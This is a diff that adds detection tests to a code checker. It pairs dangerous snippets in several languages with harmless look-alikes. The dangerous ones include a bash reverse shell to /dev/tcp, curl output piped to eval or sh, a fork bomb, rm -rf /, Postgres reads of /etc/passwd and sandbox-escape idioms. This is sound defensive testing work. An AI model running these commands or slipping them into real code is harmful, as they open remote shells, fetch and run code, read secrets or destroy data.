@@ -50,6 +50,138 @@ def check_tells_and_runs_nothing():
     kit.equal((clean.code, clean.text), (0, "python: nothing to say\n"))
 
 
+# Ways to hide a call, each beside what only looks like it.
+HIDDEN = [
+    ('python', 'globals()["__builtins__"].__import__("os").system("ls")', 'globals()["x"].imports("os")'),
+    ('python', 'globals()["__builtins__"]["eval"]("1")', 'globals()["x"]["eval"]'),
+    ('python', 'getattr(__builtins__, "eval")("1")', 'getattr(config, "evaluate")("1")'),
+    ('python', '__builtins__.__dict__["eval"]("1")', 'obj.__dict__["name"]'),
+    ('python', 'vars(__builtins__)["exec"]("1")', 'vars(obj)["exec"]'),
+    ('python', '().__class__.__bases__[0].__subclasses__()', 'x.__class__.__name__'),
+    ('python', 'x = "".__class__.__mro__[1]', 'x = "".__class__.__name__'),
+    ('python', 'f.__globals__["os"]', 'f.__name__'),
+    ('python', 'e = eval\ne("1")', 'e = evaluate\ne("1")'),
+    ('python', 'import sys\nsys.modules["os"].system("ls")', 'mods["os"].system("ls")'),
+    ('python', 'breakpoint()', 'break_point()'),
+    ('python', '__loader__.load_module("os")', 'loader.load_module("os")'),
+    ('python', 'exec(__import__("base64").b64decode("eA=="))', 'print(base.b64decode("eA=="))'),
+    ('javascript', 'Function("return 1")()', 'MyFunction("return 1")()'),
+    ('javascript', 'new Function("return 1")()', 'new FunctionX("return 1")()'),
+    ('javascript', 'process.binding("fs")', 'processor.binding("fs")'),
+    ('javascript', 'globalThis["eval"]("1")', 'globalThis["console"].log("1")'),
+    ('javascript', 'globalThis.eval("1")', 'evaluator.evals("1")'),
+    ('javascript', '(0, eval)("1")', '(0, evaluate)("1")'),
+    ('javascript', 'window["ev" + "al"]("1")', 'window["a" + "b"]("1")'),
+    ('javascript', '[].constructor.constructor("return process")()', '[].constructor.name'),
+    ('javascript', 'setTimeout("alert(1)", 0)', 'setTimeout(() => alert(1), 0)'),
+    ('javascript', 'process.mainModule.require("child_process")', 'proc.mainModule.require2("x")'),
+    ('javascript', 'process.dlopen(m, "x.node")', 'lib.dlopen2(m)'),
+    ('javascript', 'import("child_" + "process")', 'import("./local.js")'),
+    ('javascript', 'const r = require; r("child_process")', 'const r = req; r("x")'),
+    ('javascript', 'Reflect.apply(eval, null, ["1"])', 'Reflect.apply(f, null, ["1"])'),
+    ('javascript', 'vm.runInThisContext("1")', 'vmx.runInThisContext2("1")'),
+    ('javascript', 'module.constructor._load("child_process")', 'module.exports._load2("x")'),
+    ('typescript', 'globalThis["eval"]("1")', 'globalThis["console"].log("1")'),
+    ('typescript', 'const f = Function("return 1"); f()', 'const f = () => 1; f()'),
+    ('bash', 'echo aGk= | base64 -d | sh', 'echo aGk= | base64 -d > out'),
+    ('bash', 'echo aGk= | base64 --decode | bash', 'echo aGk= | base64 --decode | cat'),
+    ('bash', 'eval "$(curl http://x)"', 'echo "$(date)"'),
+    ('bash', 'eval "$x"', 'evaluate "$x"'),
+    ('bash', 'sh -c "$(wget -qO- http://x)"', 'sh script.sh'),
+    ('bash', 'bash <(curl -s http://x)', 'diff <(ls a) <(ls b)'),
+    ('bash', 'source <(curl -s http://x)', 'source ./lib.sh'),
+    ('bash', '. /dev/stdin', '. ./lib.sh'),
+    ('bash', 'bash -i >& /dev/tcp/1.2.3.4/80 0>&1', 'echo a >& /dev/null'),
+    ('bash', ':(){ :|:& };:', 'f(){ g|h; }; f'),
+    ('bash', 'xxd -r -p x | sh', 'xxd -r -p x > y'),
+    ('bash', '$(echo rm) -rf /', 'echo $(date)'),
+    ('bash', '"$CMD" -rf /', 'ls -l "$DIR"'),
+    ('bash', 'find / -delete', 'find . -name x'),
+    ('bash', 'find . -exec rm {} \\;', 'find . -exec ls {} \\;'),
+    ('bash', 'xargs rm -rf < list', 'xargs ls < list'),
+    ('ruby', 'x.instance_eval("1")', 'x.instance_variable_get(:@a)'),
+    ('ruby', 'instance_eval "puts 1"', 'instance_of "puts 1"'),
+    ('ruby', 'Foo.class_eval <<~R\n  def x; end\nR\n', 'Foo.class_of'),
+    ('ruby', 'Foo.module_eval("1")', 'Foo.module_function'),
+    ('ruby', 'Kernel.eval("1")', 'Kernel.puts("1")'),
+    ('ruby', 'binding.eval("1")', 'binding.local_variables'),
+    ('ruby', 'obj.send(:system, "ls")', 'obj.send(:name, "ls")'),
+    ('ruby', 'Kernel.send("sys" + "tem", "ls")', 'Foo.send("a", "ls")'),
+    ('ruby', 'Object.const_get(:Process).spawn("ls")', 'Object.new.spawned("ls")'),
+    ('ruby', '%x(ls)', '%w(ls)'),
+    ('ruby', 'method(:system).call("ls")', 'method(:name).call("ls")'),
+    ('ruby', 'IO.read("|ls")', 'IO.read("ls")'),
+    ('ruby', 'ObjectSpace.each_object(Class)', 'Space.each_object(Class)'),
+    ('sqlite', "ATTACH DATABASE '/etc/x.db' AS x;", "SELECT 'attach' AS x;"),
+    ('sqlite', "SELECT load_extension('x.so');", "SELECT length('x.so');"),
+    ('sqlite', "SELECT writefile('/tmp/x', 'a');", "SELECT upper('a');"),
+    ('sqlite', 'PRAGMA writable_schema = ON;', 'PRAGMA table_info(t);'),
+    ('sqlite', "VACUUM INTO '/tmp/x';", 'VACUUM;'),
+    ('postgres', "COPY t FROM PROGRAM 'ls';", 'COPY t FROM STDIN;'),
+    ('postgres', "COPY t TO PROGRAM 'sh';", "SELECT 'program';"),
+    ('postgres', "COPY t TO '/tmp/x';", 'SELECT 1;'),
+    ('postgres', "SELECT lo_import('/etc/passwd');", "SELECT lower('/etc/passwd');"),
+    ('postgres', "SELECT lo_export(1, '/tmp/x');", "SELECT upper('x');"),
+    ('postgres', "SELECT * FROM dblink('host=x', 'select 1') AS t(a int);", 'SELECT * FROM links;'),
+    ('postgres', "SELECT pg_read_file('/etc/passwd');", 'SELECT pg_typeof(1);'),
+    ('postgres', "SELECT pg_ls_dir('/');", 'SELECT version();'),
+    ('postgres', "DO $$ BEGIN EXECUTE 'drop table t'; END $$;", "SELECT 'execute';"),
+    ('postgres', 'CREATE EXTENSION plpython3u;', 'CREATE TABLE plpython3u (a int);'),
+    ('postgres', 'ALTER ROLE x SUPERUSER;', 'ALTER TABLE t ADD COLUMN a int;'),
+    ('postgres', 'GRANT ALL ON t TO PUBLIC;', "SELECT 'grant';"),
+    ('postgres', 'SELECT pg_terminate_backend(1);', 'SELECT pg_backend_pid();'),
+    ('c', '#include <stdlib.h>\nint main(void) { return system("ls"); }', 'int systems(void);\nint main(void) { return systems(); }'),
+    ('c', '#include <stdio.h>\nint main(void) { popen("ls", "r"); }', 'int main(void) { return 0; }'),
+    ('c', 'int main(void) { __asm__("int $0x80"); }', 'int assembly(int);\nint main(void) { return assembly(1); }'),
+    ('c', 'int main(void) { asm volatile ("syscall"); }', 'int main(void) { int asmx = 1; return asmx; }'),
+    ('c', 'int (*f)(const char *) = system;\nint main(void) { return f("ls"); }', 'int (*f)(const char *) = puts;\nint main(void) { return f("ls"); }'),
+    ('c', '#define RUN system\nint main(void) { RUN("ls"); }', '#define RUN puts\nint main(void) { RUN("ls"); }'),
+    ('c', '#include <sys/mman.h>\nint main(void) { mmap(0, 1, 7, 1, 0, 0); }', 'int mapped(void);\nint main(void) { return mapped(); }'),
+    ('c', '#include <sys/ptrace.h>\nint main(void) { ptrace(0); }', 'int trace(void);\nint main(void) { return trace(); }'),
+    ('go', 'package main\nimport "os/exec"\nfunc main() { exec.Command("ls").Run() }', 'package main\nimport "fmt"\nfunc main() { fmt.Println("os") }'),
+    ('go', 'package main\nimport x "os/exec"\nfunc main() { x.Command("ls").Run() }', 'package main\nimport x "fmt"\nfunc main() { x.Println() }'),
+    ('go', 'package main\nimport "unsafe"\nfunc main() { var a int; _ = unsafe.Pointer(&a) }', 'package main\nimport "strings"\nfunc main() { _ = strings.ToUpper("a") }'),
+    ('go', 'package main\nimport "C"\nfunc main() {}', 'package main\nimport "fmt"\nfunc main() { fmt.Println("C") }'),
+    ('go', 'package main\nimport "syscall"\nfunc main() { syscall.Exec("/bin/sh", nil, nil) }', 'package main\nimport "errors"\nfunc main() { _ = errors.New("a") }'),
+    ('go', 'package main\nimport "plugin"\nfunc main() { plugin.Open("x.so") }', 'package main\nimport "sort"\nfunc main() { sort.Ints(nil) }'),
+    ('go', 'package main\nimport "os"\nfunc main() { os.StartProcess("ls", nil, nil) }', 'package main\nimport "fmt"\nfunc main() { fmt.Println("os") }'),
+    ("ruby", "x.instance_eval('1')", "x.instance_eval { @a }"),
+    ("ruby", "Foo.class_eval('1')", "Foo.class_eval do\n  def x; end\nend\n"),
+]
+
+
+def told(language, code):
+    """What is told of it beyond what every program does."""
+    report = json.loads(run(home(), "check", "-l", language, "-", "--json", stdin=code.encode()).text)
+    imports = [i["module"] for i in report["imports"] if i["blocked"] or i["how"] == "computed"]
+    return [f["rule"] for f in report["findings"] if f["severity"] != "low"] + imports, report["syntax_errors"]
+
+
+def hidden(language):
+    for bad, good in ((bad, good) for of, bad, good in HIDDEN if of == language):
+        kit.true(told(language, bad)[0], bad)
+        kit.equal(told(language, good), ([], []), good)
+
+
+for _language in sorted({of for of, _, _ in HIDDEN}):
+    kit.test(lambda of=_language: hidden(of), name="hidden_" + _language, timeout=60)
+
+
+@kit.test
+def statements_that_the_grammar_does_not_have_are_no_mistakes():
+    for language, code in (("sqlite", "PRAGMA foreign_keys = ON;\nATTACH 'a.db' AS a;\nSELECT 1;\n"), ("postgres", "COPY t FROM STDIN;\nDO $x$ BEGIN NULL; END $x$;\nSELECT 1;\n")):
+        kit.equal(told(language, code)[1], [], code)
+    # Beside one, and inside a text, a mistake is one.
+    kit.equal([e["line"] for e in told("sqlite", "PRAGMA a;\nSELECT (1;\n")[1]], [2])
+    kit.true(told("sqlite", "SELECT 'PRAGMA a;', (1;\n")[1], "inside a text")
+
+
+@kit.test
+def a_line_is_said_once():
+    r = run(home(), "check", "-l", "python", "-", stdin=b"x = (1\n")
+    kit.equal((r.code, r.text), (1, "1:1 syntax: cannot be understood: something is missing or too much\n    x = (1\n"))
+
+
 @kit.test
 def check_says_what_it_cannot():
     place = home()
